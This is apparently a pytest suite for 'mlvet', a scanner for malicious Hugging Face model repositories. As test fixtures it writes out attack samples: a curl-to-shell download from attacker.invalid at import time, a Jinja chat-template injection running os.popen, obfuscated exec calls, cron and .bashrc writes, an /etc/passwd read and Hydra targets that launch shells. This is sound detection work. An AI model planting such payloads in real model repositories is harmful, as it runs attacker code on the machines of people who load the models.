"""Hugging Face repositories: configs that need remote code, the code itself, chat templates, cache paths.

Benign fixtures in ``tests/assets/hf`` are written by the real ``transformers`` (``tests/assets/make_hf.py``);
attacks are built from bytes in ``tmp_path`` so every test names the exact construct it checks. Each
detection test fails if the detection is removed. Nothing here imports or runs the Python files it scans.
"""

from __future__ import annotations

import hashlib
import json
import os
import textwrap
import time
from pathlib import Path

import pytest

import mlvet
import mlvet.formats.hf
import mlvet.formats.mlflow
from mlvet.analysis.pyast import analyse_source
from mlvet.errors import AnalysisError
from mlvet.hfcache import blob_integrity, is_cache_blob, parse_hf_path, read_refs
from mlvet.model import FileResult, Severity, Status

HF_ASSETS = Path(__file__).resolve().parents[1] / "assets" / "hf"
try:
    import mlvet.analysis.chat_template

    HAS_TEMPLATES = True
except ImportError:
    HAS_TEMPLATES = False


def scan_dir(path: Path) -> dict[str, FileResult]:
    return {os.path.relpath(r.path, path): r for r in mlvet.scan(path).results}


def rules(result: FileResult) -> set[str]:
    return {f.rule_id for f in result.findings}


def medium_plus(result: FileResult) -> list[str]:
    return [f"{f.rule_id} {f.message}" for f in result.findings if f.severity >= Severity.MEDIUM]


def write(folder: Path, name: str, text: str) -> Path:
    p = folder / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(textwrap.dedent(text))
    return p


CONFIG_REMOTE = {
    "architectures": ["EvilForCausalLM"],
    "auto_map": {
        "AutoConfig": "configuration_evil.EvilConfig",
        "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM",
    },
    "model_type": "evil",
    "transformers_version": "4.46.0",
}
BENIGN_CONFIGURATION = """
from transformers import PretrainedConfig


class EvilConfig(PretrainedConfig):
    model_type = "evil"
"""


# ---- benign: what transformers writes ------------------------------------------------------------------


@pytest.mark.parametrize("repo", ["tiny-gpt2", "tiny-inline-templates"])
def test_benign_save_pretrained_has_no_medium_findings(repo: str) -> None:
    results = scan_dir(HF_ASSETS / repo)
    assert results
    for name, res in results.items():
        assert not medium_plus(res), (name, medium_plus(res))
        if name.endswith(".json") and name != "tokenizer.json" and HAS_TEMPLATES:
            assert res.status is Status.SCANNED, (name, res.errors)


def test_configs_are_recognised_by_content() -> None:
    results = scan_dir(HF_ASSETS / "tiny-gpt2")
    assert results["config.json"].format == "huggingface-config"
    assert results["generation_config.json"].format == "huggingface-config"
    assert results["tokenizer_config.json"].format == "huggingface-config"
    assert results["chat_template.jinja"].format == "chat-template"


def test_benign_remote_code_repo_only_reports_that_it_needs_remote_code() -> None:
    """save_pretrained of a registered custom class: auto_map is medium by design, the code is clean."""
    results = scan_dir(HF_ASSETS / "tiny-remote-code")
    cfg = results["config.json"]
    assert {f.rule_id for f in cfg.findings} == {"HFR900"}
    assert all(f.severity is Severity.MEDIUM for f in cfg.findings)
    messages = " ".join(f.message for f in cfg.findings)
    assert "modeling_tiny.py" in messages and "configuration_tiny.py" in messages
    assert "TinyForCausalLM (custom architecture)" in messages
    for name in ("modeling_tiny.py", "configuration_tiny.py"):
        assert results[name].format == "python"
        assert results[name].status is Status.SCANNED
        assert results[name].findings == ()


def test_benign_save_pretrained_live(tmp_path: Path) -> None:
    """The real library at test time (skipped when transformers is not installed)."""
    transformers = pytest.importorskip("transformers")
    pytest.importorskip("torch")
    cfg = transformers.GPT2Config(vocab_size=16, n_positions=8, n_embd=8, n_layer=1, n_head=2)
    transformers.GPT2LMHeadModel(cfg).save_pretrained(tmp_path)
    for name, res in scan_dir(tmp_path).items():
        assert not medium_plus(res), (name, medium_plus(res))


# ---- remote code ---------------------------------------------------------------------------------------


def remote_repo(tmp_path: Path, modeling: str, extra: dict[str, str] | None = None) -> Path:
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "config.json").write_text(json.dumps(CONFIG_REMOTE, indent=2))
    write(tmp_path, "configuration_evil.py", BENIGN_CONFIGURATION)
    write(tmp_path, "modeling_evil.py", modeling)
    for name, text in (extra or {}).items():
        write(tmp_path, name, text)
    return tmp_path


def test_remote_code_with_import_time_payload_is_critical(tmp_path: Path) -> None:
    repo = remote_repo(
        tmp_path,
        """
        import os as _o
        import torch.nn as nn

        _o.system("curl -s https://attacker.invalid/x | sh")


        class EvilForCausalLM(nn.Module):
            pass
        """,
    )
    results = scan_dir(repo)
    py = results["modeling_evil.py"]
    hit = [f for f in py.findings if f.rule_id == "HFR911"]
    assert hit and hit[0].severity is Severity.CRITICAL
    assert "line 5" in hit[0].message and "os.system" in hit[0].message
    assert hit[0].evidence.startswith("_o.system(")
    cfg = results["config.json"]
    summary = [f for f in cfg.findings if f.rule_id == "HFR902"]
    assert summary and summary[0].severity is Severity.CRITICAL
    assert "modeling_evil.py:5 os.system" in summary[0].message


def test_remote_code_payload_in_relative_import_is_followed(tmp_path: Path) -> None:
    repo = remote_repo(
        tmp_path,
        """
        from .helpers import setup
        import torch.nn as nn


        class EvilForCausalLM(nn.Module):
            def __init__(self):
                super().__init__()
                setup()
        """,
        {
            "helpers.py": """
            import subprocess


            def setup():
                subprocess.Popen(["bash", "-c", "id"])
            """
        },
    )
    results = scan_dir(repo)
    summary = [f for f in results["config.json"].findings if f.rule_id == "HFR902"]
    assert summary and "helpers.py:6 subprocess.Popen" in summary[0].message
    assert summary[0].severity is Severity.HIGH  # inside a function: runs when the model is built
    helper = results["helpers.py"]
    assert [f.severity for f in helper.findings if f.rule_id == "HFR911"] == [Severity.HIGH]


def test_auto_map_pointing_to_another_repository_is_high(tmp_path: Path) -> None:
    cfg = dict(CONFIG_REMOTE, auto_map={"AutoModel": "attacker/code-repo--modeling_x.XModel"})
    (tmp_path / "config.json").write_text(json.dumps(cfg))
    res = scan_dir(tmp_path)["config.json"]
    f = [f for f in res.findings if f.rule_id == "HFR901"]
    assert f and f[0].severity is Severity.HIGH and "attacker/code-repo" in f[0].message


def test_missing_remote_module_is_reported(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(json.dumps(CONFIG_REMOTE))
    res = scan_dir(tmp_path)["config.json"]
    assert "HFR900" in rules(res)
    missing = [f for f in res.findings if f.rule_id == "HFR903"]
    assert {m.evidence for m in missing} == {"configuration_evil.py", "modeling_evil.py"}


def test_tokenizer_auto_map_list_and_custom_pipelines(tmp_path: Path) -> None:
    tok = {"tokenizer_class": "EvilTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}}
    (tmp_path / "tokenizer_config.json").write_text(json.dumps(tok))
    write(tmp_path, "tokenization_evil.py", "import pickle\n\nSTATE = pickle.loads(open('s.bin', 'rb').read())\n")
    cfg = {"model_type": "bert", "custom_pipelines": {"evil-task": {"impl": "pipe_evil.EvilPipeline", "pt": []}}}
    (tmp_path / "config.json").write_text(json.dumps(cfg))
    results = scan_dir(tmp_path)
    tok_res = results["tokenizer_config.json"]
    assert "HFR900" in rules(tok_res)
    summary = [f for f in tok_res.findings if f.rule_id == "HFR902"]
    assert summary and summary[0].severity is Severity.CRITICAL  # pickle.loads at import of an auto_map module
    assert "HFR900" in rules(results["config.json"])
    assert "pipe_evil.py" in " ".join(f.message for f in results["config.json"].findings)


def test_trust_remote_code_setting_and_custom_modules(tmp_path: Path) -> None:
    (tmp_path / "config_sentence_transformers.json").write_text(
        json.dumps({"model_type": "SentenceTransformer", "model_kwargs": {"trust_remote_code": True}})
    )
    (tmp_path / "modules.json").write_text(
        json.dumps([
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Evil", "type": "evil_module.EvilPooling"},
        ])
    )
    results = scan_dir(tmp_path)
    assert "HFR905" in rules(results["config_sentence_transformers.json"])
    mods = results["modules.json"]
    assert [f.rule_id for f in mods.findings] == ["HFR908"]
    assert "evil_module.EvilPooling" in mods.findings[0].message


def test_skops_hub_config_joblib_fallback(tmp_path: Path) -> None:
    """CVE-2025-54886: skops' Card.get_model loads a non-.skops model file with joblib."""
    cfg = {"sklearn": {"model": {"file": "model.pkl"}, "task": "tabular-classification"}}
    (tmp_path / "config.json").write_text(json.dumps(cfg))
    res = scan_dir(tmp_path)["config.json"]
    assert [f.rule_id for f in res.findings] == ["HFR907"]
    ok = {"sklearn": {"model": {"file": "model.skops"}}}
    (tmp_path / "config.json").write_text(json.dumps(ok))
    assert scan_dir(tmp_path)["config.json"].findings == ()


def test_malformed_config_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"model_type": "llama", "auto_map": {')
    res = scan_dir(tmp_path)["config.json"]
    assert res.status is Status.ERROR and "not valid JSON" in res.errors[0]
    (tmp_path / "config.json").write_text('{"model_type": "x", "a": ' + "[" * 100_000 + "]" * 100_000 + "}")
    res = scan_dir(tmp_path)["config.json"]
    assert res.status is Status.ERROR and "deeply" in res.errors[0]


def test_python_outside_model_folder_is_skipped_and_bad_python_is_an_error(tmp_path: Path) -> None:
    write(tmp_path / "project", "train.py", "import os\nos.system('make')\n")
    assert scan_dir(tmp_path / "project")["train.py"].status is Status.SKIPPED
    repo = remote_repo(tmp_path / "repo", "def broken(:\n    pass\n")
    res = scan_dir(repo)["modeling_evil.py"]
    assert res.status is Status.ERROR and "not valid Python" in res.errors[0]
    hfr903 = [f for f in scan_dir(repo)["config.json"].findings if f.rule_id == "HFR903"]
    assert hfr903 and "modeling_evil.py" in hfr903[0].message


def test_unreferenced_script_is_not_escalated(tmp_path: Path) -> None:
    """A conversion script in the repo is reviewed at base severity: transformers never imports it."""
    remote_repo(tmp_path, "import torch.nn as nn\n")
    write(tmp_path, "convert_checkpoint.py", "import subprocess\nsubprocess.run(['git', 'lfs', 'pull'])\n")
    res = scan_dir(tmp_path)["convert_checkpoint.py"]
    assert [(f.rule_id, f.severity) for f in res.findings] == [("HFR911", Severity.HIGH)]


# ---- chat templates ------------------------------------------------------------------------------------

MALICIOUS_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


@pytest.mark.skipif(not HAS_TEMPLATES, reason="chat-template analyser not present")
def test_chat_template_in_tokenizer_config_is_analysed(tmp_path: Path) -> None:
    tok = {"tokenizer_class": "LlamaTokenizer", "chat_template": [{"name": "default", "template": "{{ x }}"},
                                                                   {"name": "rag", "template": MALICIOUS_TEMPLATE}]}
    (tmp_path / "tokenizer_config.json").write_text(json.dumps(tok))
    res = scan_dir(tmp_path)["tokenizer_config.json"]
    bad = [f for f in res.findings if f.rule_id.startswith("GGF") and f.severity >= Severity.HIGH]
    assert bad and "rag" in bad[0].message


@pytest.mark.skipif(not HAS_TEMPLATES, reason="chat-template analyser not present")
def test_chat_template_found_beyond_the_head_of_an_unknown_json(tmp_path: Path) -> None:
    doc = {"padding": "x" * 10_000, "chat_template": MALICIOUS_TEMPLATE}
    (tmp_path / "chat_template.json").write_text(json.dumps(doc))
    res = scan_dir(tmp_path)["chat_template.json"]
    assert any(f.rule_id.startswith("GGF") and f.severity >= Severity.HIGH for f in res.findings)


@pytest.mark.skipif(not HAS_TEMPLATES, reason="chat-template analyser not present")
def test_jinja_file_is_analysed_and_binary_jinja_is_not_claimed(tmp_path: Path) -> None:
    (tmp_path / "chat_template.jinja").write_text(MALICIOUS_TEMPLATE)
    (tmp_path / "additional_chat_templates").mkdir()
    (tmp_path / "additional_chat_templates" / "tool_use.jinja").write_text("{% for m in messages %}{{ m }}{% endfor %}")
    (tmp_path / "fake.jinja").write_bytes(b"\x80\x04\x95" + bytes(range(256)))
    results = scan_dir(tmp_path)
    assert any(f.severity >= Severity.HIGH for f in results["chat_template.jinja"].findings)
    assert results[os.path.join("additional_chat_templates", "tool_use.jinja")].findings == ()
    assert results["fake.jinja"].format != "chat-template"


def test_jinja_that_is_not_utf8_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "chat_template.jinja").write_bytes(b"{{ x }}" * 1000 + b"\xff\xfe garbage")
    res = scan_dir(tmp_path)["chat_template.jinja"]
    assert res.status is Status.ERROR and "UTF-8" in res.errors[0]


# ---- pyast ---------------------------------------------------------------------------------------------


def qualified(source: str, imported: bool = True) -> list[tuple[str, str, Severity]]:
    return [(f.rule.id, f.qualified, f.severity) for f in analyse_source(textwrap.dedent(source), imported=imported)]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os as o\ndef f():\n    o.system('x')\n", "os.system"),
        ("from os import system as s\ndef f():\n    s('x')\n", "os.system"),
        ("from subprocess import *\ndef f():\n    check_output(['x'])\n", "subprocess.check_output"),
        ("import os\nrun = os.popen\ndef f():\n    run('x')\n", "os.popen"),
        ("def f():\n    __import__('os').system('x')\n", "os.system"),
        ("import importlib\ndef f():\n    importlib.import_module('subprocess').call('x')\n", "subprocess.call"),
        ("import os\ndef f():\n    getattr(os, 'system')('x')\n", "os.system"),
        ("import sys\ndef f():\n    sys.modules['os'].execv('/bin/sh', [])\n", "os.execv"),
        ("import posix\ndef f():\n    posix.system('x')\n", "os.system"),
        ("def f():\n    eval(input())\n", "builtins.eval"),
        ("import builtins\ndef f():\n    builtins.exec('x')\n", "builtins.exec"),
        ("def f():\n    __builtins__['exec']('x')\n", "builtins.exec"),
        ("import requests\ndef f():\n    requests.post('https://x.invalid', data=b'')\n", "requests.post"),
        ("import urllib.request as u\ndef f():\n    u.urlopen('http://x.invalid')\n", "urllib.request.urlopen"),
        ("import socket\ndef f():\n    socket.create_connection(('x', 1))\n", "socket.create_connection"),
        ("import ctypes\ndef f():\n    ctypes.CDLL('libc.so.6')\n", "ctypes.CDLL"),
        ("import pickle\ndef f(b):\n    pickle.loads(b)\n", "pickle.loads"),
        ("import torch\ndef f():\n    torch.hub.load('a/b', 'm')\n", "torch.hub.load"),
        ("import os\ndef f():\n    list(map(os.system, ['a']))\n", "os.system"),
    ],
)
def test_pyast_resolves_aliases(source: str, expected: str) -> None:
    found = qualified(source)
    assert expected in {q for _r, q, _s in found}, found


def test_pyast_module_level_is_escalated_only_for_imported_code() -> None:
    src = "import subprocess\nsubprocess.run(['id'])\nif __name__ == '__main__':\n    subprocess.run(['x'])\n"
    assert [s for _r, _q, s in qualified(src)] == [Severity.CRITICAL, Severity.HIGH]
    assert [s for _r, _q, s in qualified(src, imported=False)] == [Severity.HIGH, Severity.HIGH]


def test_pyast_obfuscation_builtins_and_files() -> None:
    found = qualified(
        """
        import base64, builtins, os, zlib
        exec(zlib.decompress(base64.b64decode(b"eJwrKMrMK1HIz0sFAA==")))
        def f(name):
            getattr(os, name)("id")
            setattr(builtins, "open", None)
            builtins.print = None
            open("/etc/cron.d/x", "w").write("* * * * * root id")
            open(os.path.expanduser("~/.bashrc"), "a")
            open("local.txt", "w")
        """
    )
    assert ("HFR915", "builtins.exec", Severity.CRITICAL) in found
    assert ("HFR915", "builtins.getattr", Severity.HIGH) in found
    assert {("HFR916", "builtins", Severity.HIGH), ("HFR916", "builtins.print", Severity.HIGH)} <= set(found)
    files = [(q, s) for r, q, s in found if r == "HFR917"]
    assert files == [("builtins.open", Severity.HIGH), ("builtins.open", Severity.HIGH)]  # local.txt is fine


def test_pyast_argument_dependent_calls() -> None:
    found = qualified(
        """
        import torch, numpy as np, yaml
        def f(p):
            torch.load(p, weights_only=True)
            torch.load(p)
            torch.load(p, weights_only=False)
            np.load(p)
            np.load(p, allow_pickle=True)
            yaml.load(p, Loader=yaml.SafeLoader)
            yaml.load(p, Loader=yaml.Loader)
            yaml.safe_load(p)
        """
    )
    assert [(q, s) for _r, q, s in found] == [
        ("torch.load", Severity.LOW), ("torch.load", Severity.HIGH), ("numpy.load", Severity.MEDIUM),
        ("yaml.load", Severity.HIGH),
    ]


def test_pyast_shadowed_builtins_and_lookalikes_are_not_flagged() -> None:
    found = qualified(
        """
        import re, torch
        from torch import compile as tcompile
        pattern = re.compile("x")
        def f(model, compile, eval):
            compile("x")
            model.eval()
            eval(1)
            torch.compile(model)
            tcompile(model)
            getattr(model, "weight")
        class A:
            def exec(self):
                return self.exec
        """
    )
    assert found == []


def test_pyast_benign_modelling_code_is_clean() -> None:
    for name in ("modeling_tiny.py", "configuration_tiny.py"):
        assert analyse_source((HF_ASSETS / "remote_code_src" / name).read_text()) == []


def test_pyast_pathological_input_fails_cleanly() -> None:
    with pytest.raises(AnalysisError, match=r"nests too deeply|not valid Python"):
        analyse_source("x = " + "(" * 200_000 + ")" * 200_000)
    with pytest.raises(AnalysisError, match="not valid Python"):
        analyse_source("def f(:\n")
    started = time.perf_counter()
    analyse_source("import os\n" + "x = os.path.join('a', 'b')\n" * 5_000)
    assert time.perf_counter() - started < 10


# ---- Hugging Face cache layout -------------------------------------------------------------------------

REV = "0123456789abcdef0123456789abcdef01234567"
OLD = "fedcba9876543210fedcba9876543210fedcba98"


def git_blob_id(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\x00" % len(data) + data, usedforsecurity=False).hexdigest()


def make_cache(root: Path) -> Path:
    """models--org--tiny-model laid out as huggingface_hub's file_download writes it."""
    repo = root / "models--org--tiny-model"
    (repo / "blobs").mkdir(parents=True)
    (repo / "refs" / "pr").mkdir(parents=True)
    (repo / "refs" / "main").write_text(REV)
    (repo / "refs" / "pr" / "1").write_text(REV)
    (repo / "refs" / "v1").write_text(OLD)
    config = (HF_ASSETS / "tiny-remote-code" / "config.json").read_bytes()
    weights = (HF_ASSETS / "tiny-remote-code" / "model.safetensors").read_bytes()
    code = (HF_ASSETS / "tiny-remote-code" / "modeling_tiny.py").read_bytes()
    blobs = {
        "config.json": (git_blob_id(config), config),
        "model.safetensors": (hashlib.sha256(weights).hexdigest(), weights),
        "modeling_tiny.py": (git_blob_id(code), code),
    }
    snap = repo / "snapshots" / REV
    snap.mkdir(parents=True)
    for name, (blob, data) in blobs.items():
        (repo / "blobs" / blob).write_bytes(data)
        (snap / name).symlink_to(Path("..", "..", "blobs", blob))
    old = repo / "snapshots" / OLD
    old.mkdir()
    (old / "config.json").symlink_to(Path("..", "..", "blobs", blobs["config.json"][0]))
    return repo


def test_parse_hf_path_maps_snapshot_files(tmp_path: Path) -> None:
    repo = make_cache(tmp_path)
    ref = parse_hf_path(repo / "snapshots" / REV / "model.safetensors")
    assert ref is not None
    assert (ref.repo_type, ref.repo_id, ref.revision, ref.refs) == ("model", "org/tiny-model", REV, ("main", "pr/1"))
    assert ref.path_in_repo == "model.safetensors" and ref.blob is not None and len(ref.blob) == 64
    assert ref.label == f"org/tiny-model@{REV[:12]} (main, pr/1)"
    assert read_refs(repo) == {"main": REV, "pr/1": REV, "v1": OLD}
    blob = parse_hf_path(repo / "blobs" / ref.blob)
    assert blob is not None and blob.revision is None and blob.blob == ref.blob
    assert is_cache_blob(repo / "blobs" / ref.blob)
    assert not is_cache_blob(repo / "snapshots" / REV / "model.safetensors")


@pytest.mark.parametrize(
    ("folder", "kind", "repo_id"),
    [
        ("datasets--org--data", "dataset", "org/data"),
        ("spaces--a--b", "space", "a/b"),
        ("models--gpt2", "model", "gpt2"),
    ],
)
def test_parse_hf_path_repo_kinds(tmp_path: Path, folder: str, kind: str, repo_id: str) -> None:
    ref = parse_hf_path(tmp_path / "hub" / folder / "snapshots" / OLD / "sub" / "f.json")
    assert ref is not None and (ref.repo_type, ref.repo_id, ref.revision) == (kind, repo_id, OLD)
    assert ref.path_in_repo == "sub/f.json" and ref.refs == ()


@pytest.mark.parametrize("path", ["/tmp/models/x.bin", "/tmp/models--a--b--c/snapshots/x", "/tmp/notmodels--a--b/f"])
def test_parse_hf_path_rejects_non_cache_paths(path: str) -> None:
    ref = parse_hf_path(path)
    assert ref is None or ref.revision is None


def test_blob_integrity_detects_a_modified_cache_file(tmp_path: Path) -> None:
    repo = make_cache(tmp_path)
    snap = repo / "snapshots" / REV
    assert blob_integrity(snap / "model.safetensors").status == "ok"
    ok = blob_integrity(snap / "config.json")
    assert (ok.status, ok.algorithm) == ("ok", "git-sha1")
    assert blob_integrity(snap / "model.safetensors", max_bytes=10).status == "skipped"
    target = Path(os.path.realpath(snap / "modeling_tiny.py"))
    target.write_bytes(target.read_bytes() + b"\nimport os; os.system('id')\n")
    bad = blob_integrity(snap / "modeling_tiny.py")
    assert bad.status == "mismatch" and bad.expected == target.name and bad.actual != bad.expected
    assert blob_integrity(HF_ASSETS / "tiny-gpt2" / "config.json").status == "unknown"


def test_cache_layout_matches_huggingface_hub(tmp_path: Path) -> None:
    """Cross-check the hand-made layout and our parsing with huggingface_hub's own cache scanner."""
    hub = pytest.importorskip("huggingface_hub")
    repo = make_cache(tmp_path)
    info = hub.scan_cache_dir(tmp_path)
    (hub_repo,) = info.repos
    assert hub_repo.repo_id == "org/tiny-model" and hub_repo.repo_type == "model"
    revs = {r.commit_hash: r for r in hub_repo.revisions}
    assert set(revs) == {REV, OLD}
    assert set(revs[REV].refs) == {"main", "pr/1"} and set(revs[OLD].refs) == {"v1"}
    ref = parse_hf_path(repo / "snapshots" / REV / "config.json")
    assert ref is not None and ref.repo_id == hub_repo.repo_id and set(ref.refs) == set(revs[REV].refs)
    old = parse_hf_path(repo / "snapshots" / OLD / "config.json")
    assert old is not None and set(old.refs) == set(revs[OLD].refs)
    assert {f.file_name for f in revs[REV].files} == {"config.json", "model.safetensors", "modeling_tiny.py"}


def test_scanning_a_cache_repository_scans_snapshot_files(tmp_path: Path) -> None:
    repo = make_cache(tmp_path)
    results = scan_dir(repo / "snapshots" / REV)
    assert results["config.json"].format == "huggingface-config"
    assert "HFR900" in rules(results["config.json"])
    assert results["modeling_tiny.py"].format == "python" and results["modeling_tiny.py"].findings == ()


# ---- TorchScript (pyast.torchscript_findings, offered to the zip handler) -------------------------------

TS_CODE = '''class M(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  l : __torch__.torch.nn.modules.linear.Linear
  def forward(self: __torch__.M,
    x: Tensor) -> Tensor:
    l = self.l
    y = (l).forward(x, )
    if bool(torch.gt(torch.sum(y), 0)):
      torch.save(y, "/tmp/x.pt")
    else:
      pass
    z = torch.from_file("/etc/passwd", None, 10)
    w = torch.ops.evil_ext.run(y)
    return torch.add(torch.relu(y), torch.sum(z))
  def __setstate__(self: __torch__.M, state: Tuple[Tensor, bool]) -> NoneType:
    _0 = ops.aten.save(state[0], "/home/user/.bashrc")
    return None
'''


def test_torchscript_file_ops_as_torch_jit_save_writes_them() -> None:
    """torch.jit.save serialises file builtins as ``torch.save(...)``/``torch.from_file(...)`` (this text is
    what torch 2.x writes for a scripted module calling them)."""
    from mlvet.analysis.pyast import torchscript_findings

    found = [(f.qualified, f.severity, f.at_import) for f in torchscript_findings(TS_CODE)]
    assert found == [
        ("torch.save", Severity.HIGH, False),
        ("torch.from_file", Severity.HIGH, False),
        ("torch.ops.evil_ext.run", Severity.MEDIUM, False),
        ("ops.aten.save", Severity.CRITICAL, True),  # __setstate__ runs inside torch.jit.load
    ]


def test_torchscript_in_benign_archives_is_clean() -> None:
    import zipfile

    from mlvet.analysis.pyast import torchscript_findings

    benign = Path(__file__).resolve().parents[1] / "assets" / "benign" / "torch"
    checked = 0
    for archive in sorted(benign.glob("*.pt*")):
        if not zipfile.is_zipfile(archive):
            continue
        with zipfile.ZipFile(archive) as zf:
            for name in zf.namelist():
                if "/code/" in name and name.endswith(".py"):
                    checked += 1
                    assert torchscript_findings(zf.read(name).decode(), name) == [], name
    assert checked > 0


# ---- Hydra instantiation targets (Unit 42 2026, CVE-2025-23304 class) --------------------------------------


def test_hydra_target_in_config_json_is_ranked_by_what_it_calls(tmp_path: Path) -> None:
    cfg = {
        "model": {"_target_": "subprocess.run", "args": ["sh", "-c", "id"]},
        "encoder": {"_target_": "uni2ts.model.moirai.MoiraiModule", "d_model": 64},
        "sched": {"_target_": "collections.OrderedDict"},
        "tool": {"_target_": "locale.setlocale", "category": 6},
        "loader": {"_target_": "pickle.load"},
        "path": {"_target_": "pathlib.Path", "_args_": ["weights"]},
        "runner": {"_target_": "mylib.Runner", "cmd": "bash -c 'curl x | sh'"},
    }
    write(tmp_path, "config.json", json.dumps(cfg))
    found = {f.message.split(" = ")[0]: f.severity for f in scan_dir(tmp_path)["config.json"].findings
             if f.rule_id == "HFR909"}
    assert found == {
        "model._target_": Severity.CRITICAL,  # policy: dangerous
        "encoder._target_": Severity.LOW,  # the model's own class: listed for review only
        "tool._target_": Severity.MEDIUM,  # an unknown standard-library callable
        "runner._target_": Severity.HIGH,  # called with a shell command
        "loader._target_": Severity.HIGH,  # deserialises (Python-code tables)
        "path._target_": Severity.HIGH,  # the policy lists it as dangerous
    }


def test_hydra_target_beyond_the_head_of_an_unknown_json_is_found(tmp_path: Path) -> None:
    doc = {"notes": "x" * 20_000, "deep": [{"cfg": {"_target_": "builtins.exec", "_args_": ["print(1)"]}}]}
    write(tmp_path, "model_config.json", json.dumps(doc))
    res = scan_dir(tmp_path)["model_config.json"]
    assert [(f.rule_id, f.severity) for f in res.findings] == [("HFR909", Severity.CRITICAL)]
    assert "deep[0].cfg._target_" in res.findings[0].message


def test_hydra_target_engine_is_bounded_and_pure() -> None:
    from mlvet.analysis.config_targets import MAX_NODES, find_targets

    doc: dict[str, object] = {"_target_": "a.b"}
    for _ in range(5000):
        doc = {"n": doc}
    assert find_targets(doc) == ()  # deeper than MAX_DEPTH: not walked
    wide = [{"_target_": f"m.f{i}"} for i in range(MAX_NODES + 10)]
    assert 0 < len(find_targets(wide)) <= MAX_NODES
